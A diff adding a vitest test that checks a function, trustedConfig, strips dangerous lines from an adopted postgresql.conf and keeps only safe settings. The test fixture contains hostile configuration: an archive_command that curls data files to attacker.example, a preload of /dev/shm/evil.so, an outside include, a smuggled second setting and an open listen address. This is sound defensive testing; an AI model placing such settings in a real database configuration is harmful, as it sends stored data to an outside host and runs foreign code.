@@ -8,6 +8,7 @@ import * as os from "node:os"
 import * as path from "node:path"
 import { Either, Redacted } from "effect"
 import { describe, expect, it } from "vitest"
+import { trustedConfig } from "../../src/deploy/adopt.js"
 import * as Environment from "../../src/deploy/environment.js"
 import { layout } from "../../src/deploy/Layout.js"
 import * as Unit from "../../src/deploy/unit.js"
@@ -98,5 +99,33 @@ describe("the unit", () => {
     expect(unit).toContain("ProtectHome=tmpfs\n")
     expect(unit).toContain('BindReadOnlyPaths=/home/op/.nvm/versions/node/v20/bin "/root/s m"\n')
     expect(unit).toContain('ExecStart=/home/op/.nvm/versions/node/v20/bin/node "/root/s m/dist/cli.js" server\n')
+  })
+})
+
+describe("an adopted store's postgresql.conf", () => {
+  it("keeps initdb's plain settings and this store's own, nothing an agent could have added", () => {
+    const old = [
+      "max_connections = 100\t\t\t# (change requires restart)",
+      "shared_buffers = 128MB",
+      "dynamic_shared_memory_type = posix\t# the default is usually the first option",
+      "log_timezone = 'Etc/UTC'",
+      "timezone = 'Etc/UTC'",
+      "lc_messages = 'C'",
+      "default_text_search_config = 'pg_catalog.english'",
+      "archive_mode = on",
+      "archive_command = 'curl -d @%p https://attacker.example'",
+      "shared_preload_libraries = '/dev/shm/evil.so'",
+      "include '/home/alice/more.conf'",
+      "timezone = 'x'; archive_command='sh'",
+      "listen_addresses = '*'"
+    ].join("\n")
+    const conf = trustedConfig(old, "/var/lib/secrets-mcp/store")
+    for (const kept of ["dynamic_shared_memory_type = posix", "timezone = 'Etc/UTC'", "lc_messages = 'C'"]) {
+      expect(conf).toContain(kept)
+    }
+    for (const gone of ["archive", "preload", "include", "attacker", "'*'", "128MB"]) expect(conf).not.toContain(gone)
+    // This store's own settings come last, so they win over anything kept.
+    expect(conf).toMatch(/listen_addresses = ''\s+# no TCP at all/)
+    expect(conf).toContain("unix_socket_permissions = 0700")
   })
 })
